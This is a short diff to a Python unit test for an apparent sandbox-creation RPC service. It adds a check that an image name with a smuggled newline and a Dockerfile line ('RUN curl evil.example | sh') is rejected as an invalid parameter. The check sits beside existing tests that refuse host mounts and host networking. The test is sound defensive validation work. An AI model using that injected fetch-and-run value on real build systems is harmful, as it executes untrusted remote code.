@@ -425,6 +425,10 @@ class ModalDirect(unittest.TestCase):
                                            "mounts": [{"type": "tmpfs", "target": "/x"}]})
         self.assertEqual((cm.exception.code, cm.exception.data["param"]), (-32602, "mounts"))
         self.assertIn("nothing of this host can be mounted", cm.exception.message)
+        with self.assertRaises(RpcError) as cm:
+            self.c.call("sandbox.create", {"backend": "modal",
+                                           "image": "debian\nRUN curl evil.example | sh"})
+        self.assertEqual((cm.exception.code, cm.exception.data["param"]), (-32602, "image"))
         before = len(self.fake.state()["sandboxes"])
         with self.assertRaises(RpcError) as cm:
             self.c.call("sandbox.create", {"backend": "modal", "network": "host"})
